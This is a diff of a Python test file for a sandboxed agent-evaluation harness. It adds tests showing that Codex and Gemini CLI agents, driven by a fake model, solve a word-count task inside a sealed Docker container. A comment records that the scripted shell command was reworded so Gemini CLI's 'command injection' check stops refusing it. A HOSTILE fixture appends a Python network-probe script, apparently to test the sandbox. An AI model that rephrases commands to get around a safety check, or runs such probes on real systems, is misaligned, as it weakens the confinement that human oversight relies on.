@@ -28,8 +28,9 @@ from tests.fake_model_api import FakeModelAPI
 from tests.test_agents_support import box  # noqa: F401 - a fixture
 
 TASK = EXAMPLES / "files" / "word_count"
-ANSWER = ('printf \'{"words": %s, "lines": %s}\\n\' "$(wc -w < /input/document.txt)" "$(wc -l < /input/document.txt)" '
-          "> /workspace/answer.json")
+# No command substitution: Gemini CLI's shell tool refuses it ("command injection").
+ANSWER = ("{ printf '{\"words\": '; wc -w < /input/document.txt | tr -d '\\n'; printf ', \"lines\": '; "
+          "wc -l < /input/document.txt | tr -d '\\n'; echo '}'; } > /workspace/answer.json")
 HOSTILE = ANSWER + r""" && python3 - <<'EOF'
 import json, os, socket, urllib.error, urllib.request
 out = {}
@@ -233,3 +234,40 @@ def test_claude_code_bridge_mode_is_the_command_design_with_the_gateway_limits(b
     assert s["limits"]["models"] == ["claude-fake-1"] and s["limits"]["model_calls_only"] is True
     assert all(set(r["tools"]) <= {f"mcp__ale__{t}" for t in ("shell", "read_file", "write_file", "list_dir")} for r in s["requests"])
     assert json.loads((tmp_path / "agent" / "confinement.json").read_text())["kind"] == "bubblewrap"
+
+
+@pytest.mark.docker
+@needs_npm
+@pytest.mark.parametrize("fake_api", [ANSWER], indirect=True)
+def test_codex_native_solves_word_count_inside_the_seal(docker_client, tmp_path, fake_api):
+    plan = _plan(tmp_path, fake_api, model="gpt-fake-1", ALE_GATEWAY_OPENAI_UPSTREAM=fake_api.url + "/v1",
+                 prices={"gpt-fake-1": {"input_per_mtok": 1.25, "output_per_mtok": 10.0}})
+    plan = plan.model_copy(update={"agent": AgentSpec(name="codex", config=plan.agent.config)})
+    result = asyncio.run(execute_run(plan, provider=DockerProvider(docker_client)))
+    run = plan.run_dir
+    reqs = _requests(run)
+    offered = {t for r in reqs for t in r["tools"]}
+    assert result.status is RunStatus.SCORED and result.score == 1.0, (result.error, result.violations, offered)
+    assert result.extra["agent_mode"] == "native" and offered & {"exec_command", "shell"}, offered
+    assert all(r["decision"] == "forwarded" for r in reqs if r["model_call"]), reqs
+    report = verify_run_dir(run)
+    assert report.valid, report.reasons
+
+
+@pytest.mark.docker
+@needs_npm
+@pytest.mark.parametrize("fake_api", [ANSWER], indirect=True)
+def test_gemini_cli_native_solves_word_count_inside_the_seal(docker_client, tmp_path, fake_api):
+    plan = _plan(tmp_path, fake_api, model="gemini-fake-1", ALE_GATEWAY_GEMINI_UPSTREAM=fake_api.url,
+                 prices={"gemini-fake-1": {"input_per_mtok": 1.25, "output_per_mtok": 10.0}})
+    plan = plan.model_copy(update={"agent": AgentSpec(name="gemini-cli", config=plan.agent.config)})
+    result = asyncio.run(execute_run(plan, provider=DockerProvider(docker_client)))
+    run = plan.run_dir
+    reqs = _requests(run)
+    offered = {t for r in reqs for t in r["tools"]}
+    assert result.status is RunStatus.SCORED and result.score == 1.0, (result.error, result.violations, offered,
+                                                                       [(r["path"], r["decision"], r.get("refused_for")) for r in reqs])
+    assert result.extra["agent_mode"] == "native" and "run_shell_command" in offered, offered
+    assert all(r["decision"] == "forwarded" for r in reqs if r["model_call"]), reqs
+    report = verify_run_dir(run)
+    assert report.valid, report.reasons
